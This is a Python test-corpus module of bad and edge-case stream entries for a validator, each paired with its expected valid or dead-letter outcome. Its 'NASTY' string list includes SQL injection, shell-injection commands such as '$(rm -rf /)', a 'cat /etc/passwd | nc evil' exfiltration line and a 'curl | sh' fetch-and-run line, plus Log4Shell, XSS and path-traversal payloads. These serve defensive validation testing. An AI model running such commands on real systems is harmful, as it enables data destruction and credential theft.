"""The bad-input corpus: hand-picked wire entries, each with the outcome it must have.

Every case is a complete stream entry (its fields, as a producer would ``XADD`` them) and the
verdict the validator must reach: ``valid`` (it reaches the valid stream, its text unchanged)
or ``dead`` (it reaches the dead-letter stream carrying a code of the expected family). The
same corpus runs against the pure `judge` (unit) and the real validator on Redis
(integration), so a case cannot pass in one and not the other.
"""

from __future__ import annotations

import random
import re
import struct
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Literal

import orjson

from shared import validation
from shared.validation import DEFAULT_MAX_BYTES
from shared.wire import DATA_FIELD, FASTSTREAM_MAGIC, ORIGIN_ID_FIELD

Fields = dict[bytes, bytes]
TS = "2024-05-01T12:00:00Z"

#: Error-code families as documented in the table of `shared.validation`'s docstring.
FAMILIES: frozenset[str] = frozenset(
    re.findall(r"^\| ``([a-z_]+)(?::<[^`]*>)?`` \|", validation.__doc__ or "", re.MULTILINE)
)

#: Strings that have broken other systems: SQL, shell, format strings, markup, paths, control
#: characters, bidirectional overrides, zero-width characters, combining marks, emoji.
NASTY: tuple[str, ...] = (
    "'; DROP TABLE history; --",
    '" OR 1=1 --',
    "1); DELETE FROM history WHERE (1=1",
    "Robert'); DROP TABLE Students;--",
    "\\'; SELECT pg_sleep(10); --",
    "$(rm -rf /)",
    "`reboot`",
    "; cat /etc/passwd | nc evil 1234",
    "&& curl http://x | sh",
    "|| true",
    "%s%s%s%n%x",
    "{0}{1}{__class__}",
    "${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "C:\\Windows\\System32",
    "line1\r\nX-Injected: header",
    "tab\there\vvertical\fform",
    "\x1b[31mred\x1b[0m",
    "nul\x00byte",
    "\x7f\x01\x02\x03",
    "\u202eevil\u202c RTL override",
    "\u200b\u200c\u200d\u2060\ufeff",
    "שלום עולם مرحبا بالعالم",
    "e\u0301\u0302\u0303\u0304 combining",
    "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "\U0010ffff\ufffe\uffff noncharacters",
    "ﷺ ﷽ long ligatures",
    "𝕳𝖊𝖑𝖑𝖔 mathematical",
    "\u0000",
    "",
    " ",
    "null",
    "NaN",
    "-0",
    "1e999",
    "\\u0000 escaped-looking text",
    "'\"`\\",
)


@dataclass(frozen=True)
class Case:
    """One entry and the verdict it must get."""

    name: str
    fields: Fields
    expect: Literal["valid", "dead"]
    family: str | None = None
    """For dead cases: a code family that must be among the entry's codes."""


def event(**overrides: Any) -> dict[str, Any]:
    """A valid BrewSLM RunEvent."""
    doc: dict[str, Any] = {
        "project_id": 7,
        "run_id": "exp-42",
        "stage": "training",
        "severity": "info",
        "summary": "epoch 3 done",
        "ts": TS,
    }
    return doc | overrides


def pulse(**overrides: Any) -> dict[str, Any]:
    """A valid Pulse event."""
    doc: dict[str, Any] = {
        "event_type": "run.completed",
        "severity": "info",
        "run_id": "run-9",
        "message": "done",
        "created_at": TS,
    }
    return doc | overrides


def body(doc: Any) -> Fields:
    """Entry fields carrying `doc` as JSON."""
    return {DATA_FIELD: orjson.dumps(doc)}


def raw(data: bytes) -> Fields:
    """Entry fields carrying raw bytes."""
    return {DATA_FIELD: data}


def faststream_binary(payload: bytes, *, version: int = 1, data_start: int | None = None) -> bytes:
    """FastStream's binary message format: magic, version, header and data offsets, body."""
    headers = b""
    start = 18 + len(headers) if data_start is None else data_start
    return FASTSTREAM_MAGIC + struct.pack(">HII", version, 18, start) + headers + payload


def _random_bytes() -> Iterator[Case]:
    rng = random.Random(20240501)
    for n in (0, 1, 2, 7, 64, 1000, 60_000):
        yield Case(f"random bytes x{n}", raw(rng.randbytes(n)), "dead")
    yield Case("empty body", raw(b""), "dead", "malformed_json")
    yield Case("whitespace only", raw(b" \n\t "), "dead", "malformed_json")


def _truncated() -> Iterator[Case]:
    whole = orjson.dumps(event())
    for cut in (1, 2, len(whole) // 3, len(whole) // 2, len(whole) - 2, len(whole) - 1):
        yield Case(f"truncated at {cut}", raw(whole[:cut]), "dead", "malformed_json")
    yield Case("trailing garbage", raw(whole + b"}"), "dead", "malformed_json")
    yield Case("two documents", raw(whole + whole), "dead", "malformed_json")


def _sizes() -> Iterator[Case]:
    yield Case("summary at its 4096 limit", body(event(summary="é" * 4096)), "valid")
    yield Case("summary over 4096", body(event(summary="x" * 4097)), "dead", "schema_violation")
    filler = "x" * (DEFAULT_MAX_BYTES - 400)
    yield Case("payload just under the entry limit", body(event(payload={"f": filler})), "valid")
    big = "x" * DEFAULT_MAX_BYTES
    yield Case(
        "payload over the entry limit", body(event(payload={"f": big})), "dead", "payload_too_large"
    )
    yield Case(
        "one megabyte entry", raw(b"[" + b"1," * 500_000 + b"1]"), "dead", "payload_too_large"
    )
    yield Case("huge key", body(event(payload={"k" * 50_000: 1})), "valid")
    yield Case("many keys", body(event(payload={str(i): i for i in range(4000)})), "valid")
    yield Case("run_id over 256", body(event(run_id="r" * 257)), "dead", "schema_violation")


def _nested(depth: int, leaf: bytes = b"1") -> bytes:
    return b"[" * depth + leaf + b"]" * depth


def _deep() -> Iterator[Case]:
    prefix = orjson.dumps(event())[:-1] + b',"payload":{"a":'
    for depth in (50, 97):
        yield Case(f"payload nested {depth}", raw(prefix + _nested(depth) + b"}}"), "valid")
    for depth in (99, 100, 101, 500, 1000):
        yield Case(
            f"payload nested {depth}",
            raw(prefix + _nested(depth) + b"}}"),
            "dead",
            "schema_violation",
        )
    for depth in (1023, 1024, 1025, 20_000):
        yield Case(
            f"payload nested {depth} (past the parser)",
            raw(prefix + _nested(depth) + b"}}"),
            "dead",
            "malformed_json",
        )
    yield Case("30k nested arrays", raw(_nested(30_000)), "dead", "malformed_json")
    yield Case("100k nested arrays", raw(_nested(100_000)), "dead", "payload_too_large")
    yield Case("deep objects", raw(b'{"a":' * 2000 + b"1" + b"}" * 2000), "dead")


#: Odd JSON values tried in every field of an otherwise valid event.
ODD_VALUES: tuple[Any, ...] = (None, True, 1.5, -1, 2**63, "7", [], {}, [7], {"a": 1})
#: The (field, odd value) pairs the schema accepts; every other pair must be rejected.
ACCEPTED_ODD: frozenset[tuple[str, str]] = frozenset(
    {
        ("run_id", "'7'"),
        ("ts", "1.5"),  # epoch seconds
        ("ts", "'7'"),  # epoch seconds, as text
        ("payload", "{}"),
        ("payload", "{'a': 1}"),
        ("event_id", "None"),
        ("event_id", "'7'"),
        ("summary", "None"),
        ("summary", "'7'"),
        ("actor", "'7'"),
        ("parent_run_id", "None"),
        ("parent_run_id", "'7'"),
    }
)


def _wrong_types() -> Iterator[Case]:
    for top in (b"[]", b'"event"', b"42", b"null", b"true", b"-0"):
        yield Case(f"top level {top.decode()}", raw(top), "dead", "schema_violation")
    fields = (
        "project_id",
        "run_id",
        "stage",
        "severity",
        "ts",
        "payload",
        "event_id",
        "summary",
        "actor",
        "parent_run_id",
    )
    for field in fields:
        for value in ODD_VALUES:
            expect: Literal["valid", "dead"] = (
                "valid" if (field, repr(value)) in ACCEPTED_ODD else "dead"
            )
            yield Case(f"{field}={value!r}", body(event(**{field: value})), expect)
    big = orjson.dumps(event())[:-1] + b',"project_id":18446744073709551616}'
    yield Case("project_id beyond 64 bits", raw(big), "dead", "schema_violation")
    yield Case(
        "reason code as list", body(event(reason_code=["oom"])), "dead", "invalid_reason_code"
    )
    yield Case("severity as object", body(event(severity={"a": 1})), "dead", "invalid_severity")
    yield Case("dialect as number", body(event(dialect=5)), "dead", "unknown_dialect")
    yield Case("pulse details as string", body(pulse(details="x")), "dead", "schema_violation")
    yield Case("unknown field", body(event(extra_field=1)), "dead", "schema_violation")
    yield Case("both dialects' fields", body(event(event_type="run.completed")), "dead")


def _unicode() -> Iterator[Case]:
    for text in NASTY:
        yield Case(f"summary {text[:24]!r}", body(event(summary=text)), "valid")
    template = orjson.dumps(event(summary="@@"))
    escaped = {
        "lone high surrogate": b"\\ud800",
        "lone low surrogate": b"\\udfff",
        "reversed pair": b"\\ude00\\ud83d",
    }
    for name, esc in escaped.items():
        yield Case(
            f"summary {name} (escaped)", raw(template.replace(b"@@", esc)), "dead", "malformed_json"
        )
    yield Case("summary escaped pair", raw(template.replace(b"@@", b"\\ud83d\\ude00")), "valid")
    yield Case("summary escaped NUL", raw(template.replace(b"@@", b"\\u0000")), "valid")
    invalid_utf8 = {
        "overlong slash": b"\xc0\xaf",
        "overlong NUL": b"\xc0\x80",
        "overlong 3-byte": b"\xe0\x80\xaf",
        "surrogate in UTF-8": b"\xed\xa0\x80",
        "beyond U+10FFFF": b"\xf4\x90\x80\x80",
        "lone continuation": b"\x80",
        "truncated sequence": b"\xe2\x82",
        "latin-1 byte": b"caf\xe9",
        "raw NUL byte": b"a\x00b",
        "raw newline": b"a\nb",
    }
    for name, bad in invalid_utf8.items():
        yield Case(f"summary {name}", raw(template.replace(b"@@", bad)), "dead", "malformed_json")
    yield Case(
        "BOM before the document",
        raw(b"\xef\xbb\xbf" + orjson.dumps(event())),
        "dead",
        "malformed_json",
    )
    yield Case("unicode run_id", body(event(run_id="exp-☃-שלום-😀")), "valid")
    yield Case("unicode payload keys", body(event(payload={k: k for k in NASTY})), "valid")
    yield Case("unicode field name", body(event(**{"stäge": "x"})), "dead", "schema_violation")
    yield Case(
        "NaN literal",
        raw(orjson.dumps(event())[:-1] + b',"payload":{"x":NaN}}'),
        "dead",
        "malformed_json",
    )


def _metacharacters() -> Iterator[Case]:
    for i, text in enumerate(NASTY):
        if text:
            yield Case(f"run_id {i}", body(event(run_id=text)), "valid")
            yield Case(f"actor {i}", body(event(actor=text)), "valid")
            yield Case(f"pulse message {i}", body(pulse(message=text)), "valid")
        yield Case(f"stage {i}", body(event(stage=text)), "dead", "invalid_stage")
        yield Case(
            f"reason_code {i}",
            body(event(severity="error", reason_code=text)),
            "dead",
            "invalid_reason_code",
        )
        yield Case(f"event_type {i}", body(pulse(event_type=text)), "dead", "invalid_event_type")
    yield Case(
        "event_id with SQL",
        body(event(event_id="x'; DROP TABLE history;--")),
        "dead",
        "schema_violation",
    )


def _timestamps() -> Iterator[Case]:
    valid = [
        "1970-01-01T00:00:00Z",
        "2099-12-31T23:59:59.999999Z",
        "2024-05-01T12:00:00",
        "2024-05-01T12:00:00+14:00",
        "2024-05-01T12:00:00-12:00",
        "2024-02-29T00:00:00Z",
    ]
    for ts in valid:
        yield Case(f"ts {ts}", body(event(ts=ts)), "valid")
    dead: list[Any] = [
        "0001-01-01T00:00:00Z",
        "1969-12-31T23:59:59Z",
        "2100-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "+275760-09-13T00:00:00Z",
        "-000001-01-01T00:00:00Z",
        "2023-02-29T00:00:00Z",
        "2024-01-01T23:59:60Z",
        "2024-13-01T00:00:00Z",
        "",
        "now",
        "NaN",
        "2024-05-01T12:00:00+25:00",
        "9999-12-31T23:59:59-14:00",  # past year 9999 in UTC: once an OverflowError
        "0001-01-01T00:00:00+14:00",
        4102444800,
        -1,
        1e20,
        True,
    ]
    for ts in dead:
        yield Case(f"ts {ts!r}", body(event(ts=ts)), "dead", "schema_violation")
    yield Case(
        "pulse created_at far past",
        body(pulse(created_at="0001-01-01T00:00:00Z")),
        "dead",
        "schema_violation",
    )


def _entries() -> Iterator[Case]:
    yield Case("no __data__ field", {b"data": orjson.dumps(event())}, "dead", "schema_violation")
    yield Case(
        "upper-case __DATA__", {b"__DATA__": orjson.dumps(event())}, "dead", "schema_violation"
    )
    yield Case("empty field name", {b"": b""}, "dead", "schema_violation")
    extra = {DATA_FIELD: orjson.dumps(event()), b"x-trace": b"\x00\xff", b"\xff": b"'; --"}
    yield Case("extra fields beside __data__", extra, "valid")
    yield Case("extra fields on a reject", {**extra, DATA_FIELD: b"{"}, "dead", "malformed_json")
    yield Case(
        "huge extra field", {DATA_FIELD: orjson.dumps(event()), b"pad": b"p" * 200_000}, "valid"
    )
    forged = {DATA_FIELD: orjson.dumps(event()), ORIGIN_ID_FIELD: b"'; DROP TABLE history; --"}
    yield Case("forged origin_source_id", forged, "valid")
    yield Case(
        "legacy envelope", body({"data": orjson.dumps(event()).decode(), "headers": {}}), "valid"
    )
    yield Case("legacy envelope, data not a string", body({"data": 5}), "dead")
    yield Case("legacy envelope, data not JSON", body({"data": "{nope"}), "dead", "malformed_json")
    yield Case("legacy envelope truncated", raw(b'{"data":'), "dead", "malformed_json")


def _faststream() -> Iterator[Case]:
    good = orjson.dumps(event())
    yield Case("faststream binary, valid body", raw(faststream_binary(good)), "valid")
    yield Case("faststream magic only", raw(FASTSTREAM_MAGIC), "dead", "malformed_json")
    yield Case(
        "faststream short header", raw(FASTSTREAM_MAGIC + b"\x00\x01\x00"), "dead", "malformed_json"
    )
    yield Case(
        "faststream version 2", raw(faststream_binary(good, version=2)), "dead", "malformed_json"
    )
    yield Case(
        "faststream garbage body",
        raw(faststream_binary(b"\xff\xfe\x00garbage")),
        "dead",
        "malformed_json",
    )
    for start in (0, 17, 2**31, 2**32 - 1):
        yield Case(
            f"faststream data offset {start}",
            raw(faststream_binary(good, data_start=start)),
            "dead",
            "malformed_json",
        )
    yield Case(
        "faststream offset into garbage then JSON",
        raw(faststream_binary(b"\xff\xff" + good, data_start=18)),
        "dead",
        "malformed_json",
    )
    yield Case(
        "faststream wrapping a reject",
        raw(faststream_binary(orjson.dumps(event(stage="x")))),
        "dead",
        "invalid_stage",
    )


def _duplicates() -> Iterator[Case]:
    same = body(event(event_id="dup-1"))
    for i in range(3):
        yield Case(f"duplicate event id #{i}", same, "valid")
    yield Case("same id, other content", body(event(event_id="dup-1", summary="other")), "valid")
    yield Case(
        "duplicate JSON keys, last wins",
        raw(b'{"stage":"nope",' + orjson.dumps(event())[1:]),
        "valid",
    )


def corpus() -> list[Case]:
    """Every case, in a stable order."""
    groups = (
        _random_bytes,
        _truncated,
        _sizes,
        _deep,
        _wrong_types,
        _unicode,
        _metacharacters,
        _timestamps,
        _entries,
        _faststream,
        _duplicates,
    )
    return [case for group in groups for case in group()]
